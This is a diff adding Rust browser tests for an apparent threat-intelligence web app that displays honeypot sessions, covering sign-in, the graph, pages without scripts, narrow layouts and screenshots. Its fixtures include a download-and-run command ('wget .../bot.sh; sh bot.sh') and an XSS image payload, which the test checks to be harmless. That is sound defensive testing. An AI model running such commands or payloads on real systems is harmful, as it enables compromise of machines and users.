@@ -1,0 +1,356 @@
+//! The pages in a real browser: with scripts and without, light and dark, wide and narrow.
+//!
+//! With `CYBEXP_WEB_SHOTS=FOLDER` pictures of all pages go into the folder.
+
+use std::path::PathBuf;
+
+use base64::Engine as _;
+use base64::engine::general_purpose::STANDARD;
+use fantoccini::Locator;
+use serde_json::json;
+
+use crate::driver::Driver;
+use crate::suite::{ADMIN, PASSWORD, Suite, path, session};
+
+const ADDRESS: &str = "203.0.113.9";
+const HOSTILE: &str = "<img src=x onerror=\"document.title='broken'\">\u{202e}\u{0}";
+
+async fn filled(name: &str) -> Suite {
+    let suite = Suite::start(name).await;
+    let commands = [
+        "uname -a",
+        "cat /proc/cpuinfo | grep name | wc -l",
+        "cd /tmp; wget http://203.0.113.77/bot.sh; sh bot.sh",
+        HOSTILE,
+    ];
+    let mut records = session(
+        "8d0c0817",
+        ADDRESS,
+        &["123456", "123456", "support", "admin"],
+        &commands,
+    );
+    for n in 0..6 {
+        let address = format!("198.51.100.{n}");
+        records.extend(session(
+            &format!("9e1d192{n}"),
+            &address,
+            &["root", "admin"],
+            &["uname -a"],
+        ));
+    }
+    suite.have("cowrie", &records, ("ipv4", ADDRESS, 11)).await;
+    suite
+}
+
+async fn sign_in(suite: &Suite, driver: &Driver) {
+    let client = &driver.client;
+    client
+        .goto(&format!("{}/value?type=ipv4&data={ADDRESS}", suite.base))
+        .await
+        .unwrap();
+    client
+        .find(Locator::Id("email"))
+        .await
+        .unwrap()
+        .send_keys(ADMIN)
+        .await
+        .unwrap();
+    client
+        .find(Locator::Id("password"))
+        .await
+        .unwrap()
+        .send_keys(PASSWORD)
+        .await
+        .unwrap();
+    client
+        .find(Locator::Css("button.main"))
+        .await
+        .unwrap()
+        .click()
+        .await
+        .unwrap();
+    driver
+        .until("return document.querySelector('svg.graph') !== null")
+        .await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_analyst_looks_around() {
+    let Some(driver) = Driver::start().await else {
+        return;
+    };
+    let suite = filled("browser").await;
+    let client = &driver.client;
+    sign_in(&suite, &driver).await;
+
+    // the policy refuses nothing that the page has, and hostile values did nothing
+    let errors = driver
+        .run("return performance.getEntriesByType('resource').every(e => e.responseStatus === 200)")
+        .await;
+    assert_eq!(errors, json!(true));
+    assert_eq!(
+        driver.run("return document.title.includes('broken')").await,
+        json!(false)
+    );
+    assert_eq!(driver.run("return document.images.length").await, json!(0));
+    assert_eq!(
+        driver
+            .run("return getComputedStyle(document.querySelector('body > header')).display")
+            .await,
+        json!("flex")
+    );
+
+    // keys: / goes to the search, and Enter searches
+    driver.run("document.activeElement.blur()").await;
+    client
+        .find(Locator::Css("body"))
+        .await
+        .unwrap()
+        .send_keys("/")
+        .await
+        .unwrap();
+    assert_eq!(
+        driver.run("return document.activeElement.id").await,
+        json!("q")
+    );
+    client
+        .active_element()
+        .await
+        .unwrap()
+        .send_keys("198[.]51.100.3\u{e007}")
+        .await
+        .unwrap();
+    driver.until("return document.querySelector('h1').textContent.includes('198[.]51.100.3') && document.querySelector('svg.graph') !== null").await;
+
+    // a node of the graph leads on
+    let script = "const a = [...document.querySelectorAll('svg.graph a')].find(a => a.querySelector('title').textContent.startsWith('url: http://203.0.113.77/bot.sh'));\
+                  a.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true})); return a.getAttribute('href')";
+    let href = driver.run(script).await;
+    assert!(
+        href.as_str().unwrap().starts_with("/value?type=url"),
+        "{href}"
+    );
+    driver.until("return location.search.includes('bot.sh') && document.querySelector('svg.graph') !== null").await;
+
+    // zoom by keys
+    let before = driver
+        .run("return document.querySelector('svg.graph').getAttribute('viewBox')")
+        .await;
+    let canvas = client.find(Locator::Css(".canvas")).await.unwrap();
+    driver
+        .run("document.querySelector('.canvas').focus()")
+        .await;
+    canvas.send_keys("+").await.unwrap();
+    let after = driver
+        .run("return document.querySelector('svg.graph').getAttribute('viewBox')")
+        .await;
+    assert_ne!(before, after);
+
+    // the story of a session
+    client
+        .goto(&format!(
+            "{}{}",
+            suite.base,
+            path("/session", &[("type", "sessionid"), ("data", "8d0c0817")])
+        ))
+        .await
+        .unwrap();
+    assert_eq!(
+        driver
+            .run("return document.querySelectorAll('.story > li').length > 7")
+            .await,
+        json!(true)
+    );
+    assert_eq!(driver.run("return document.images.length").await, json!(0));
+
+    // no page is wider than a telephone
+    driver.look(360, 740, false).await;
+    for page in pages() {
+        client.goto(&format!("{}{page}", suite.base)).await.unwrap();
+        let wide = driver
+            .run("return document.documentElement.scrollWidth")
+            .await;
+        assert!(wide.as_u64().unwrap() <= 360, "{page} is {wide} wide");
+    }
+    suite.stop().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn pages_work_without_scripts() {
+    let Some(driver) = Driver::start().await else {
+        return;
+    };
+    let suite = filled("noscript").await;
+    driver.look(1200, 900, false).await;
+    driver
+        .devtools(
+            "Emulation.setScriptExecutionDisabled",
+            json!({"value": true}),
+        )
+        .await;
+    let client = &driver.client;
+    client.goto(&suite.base).await.unwrap();
+    client
+        .find(Locator::Id("email"))
+        .await
+        .unwrap()
+        .send_keys(ADMIN)
+        .await
+        .unwrap();
+    client
+        .find(Locator::Id("password"))
+        .await
+        .unwrap()
+        .send_keys(PASSWORD)
+        .await
+        .unwrap();
+    client
+        .find(Locator::Css("button.main"))
+        .await
+        .unwrap()
+        .click()
+        .await
+        .unwrap();
+    client
+        .wait()
+        .for_element(Locator::Id("values"))
+        .await
+        .unwrap()
+        .send_keys(ADDRESS)
+        .await
+        .unwrap();
+    client
+        .find(Locator::Css("button.main"))
+        .await
+        .unwrap()
+        .click()
+        .await
+        .unwrap();
+    client
+        .wait()
+        .for_element(Locator::Css("svg.graph a"))
+        .await
+        .unwrap();
+
+    let file = tempfile::NamedTempFile::with_suffix(".json").unwrap();
+    std::fs::write(
+        file.path(),
+        r#"{"url": "http://posted.example/by-hand", "category": "malicious"}"#,
+    )
+    .unwrap();
+    client.goto(&format!("{}/post", suite.base)).await.unwrap();
+    client
+        .find(Locator::Id("files"))
+        .await
+        .unwrap()
+        .send_keys(&file.path().display().to_string())
+        .await
+        .unwrap();
+    client
+        .find(Locator::Css("main button.main"))
+        .await
+        .unwrap()
+        .click()
+        .await
+        .unwrap();
+    let send = client
+        .wait()
+        .for_element(Locator::Css("button[value=send]"))
+        .await
+        .unwrap();
+    let source = client.source().await.unwrap();
+    assert!(
+        source.contains("<option value=\"sighting\" selected"),
+        "{source}"
+    );
+    send.click().await.unwrap();
+    // the page loads itself until all is archived
+    let done = Locator::XPath("//span[text()='in the archive']");
+    client.wait().for_element(done).await.unwrap();
+    let link = client
+        .wait()
+        .for_element(Locator::LinkText("http://posted.example/by-hand"))
+        .await
+        .unwrap();
+    link.click().await.unwrap();
+    suite.stop().await;
+}
+
+fn pages() -> Vec<String> {
+    vec![
+        "/".to_owned(),
+        path("/value", &[("type", "ipv4"), ("data", ADDRESS)]),
+        path(
+            "/value",
+            &[
+                ("type", "url"),
+                ("data", "http://203.0.113.77/bot.sh"),
+                ("level", "2"),
+            ],
+        ),
+        path("/session", &[("type", "sessionid"), ("data", "8d0c0817")]),
+        "/post".to_owned(),
+        "/account".to_owned(),
+    ]
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn pictures_of_all_pages() {
+    let Some(folder) = std::env::var_os("CYBEXP_WEB_SHOTS").map(PathBuf::from) else {
+        println!("skipped: no folder for pictures in $CYBEXP_WEB_SHOTS");
+        return;
+    };
+    let Some(driver) = Driver::start().await else {
+        return;
+    };
+    let suite = filled("pictures").await;
+    sign_in(&suite, &driver).await;
+    let client = &driver.client;
+    let event = driver
+        .run("return document.querySelector('#events ~ .scroll a').getAttribute('href')")
+        .await;
+    let org = path("/org", &[("hash", &suite.site.orgid.to_string())]);
+    let mut all: Vec<(&str, String)> = [
+        "search",
+        "value",
+        "value-deep",
+        "session",
+        "post",
+        "account",
+    ]
+    .into_iter()
+    .zip(pages())
+    .collect();
+    all.extend([
+        ("event", event.as_str().unwrap().to_owned()),
+        ("org", org),
+        (
+            "nothing",
+            path("/value", &[("type", "ipv4"), ("data", "192.0.2.1")]),
+        ),
+    ]);
+    for (look, width, height, dark) in [
+        ("light", 1200, 900, false),
+        ("dark", 1200, 900, true),
+        ("narrow", 390, 800, false),
+        ("narrow-dark", 390, 800, true),
+    ] {
+        driver.look(width, height, dark).await;
+        for (name, page) in &all {
+            client.goto(&format!("{}{page}", suite.base)).await.unwrap();
+            let whole = driver
+                .run("return document.documentElement.scrollHeight")
+                .await;
+            let clip = json!({"x": 0, "y": 0, "width": width, "height": whole.as_u64().unwrap().min(3000), "scale": 1});
+            let shot = driver
+                .devtools(
+                    "Page.captureScreenshot",
+                    json!({"clip": clip, "captureBeyondViewport": true}),
+                )
+                .await;
+            let png = STANDARD.decode(shot["data"].as_str().unwrap()).unwrap();
+            std::fs::write(folder.join(format!("{name}-{look}.png")), png).unwrap();
+        }
+    }
+    suite.stop().await;
+}
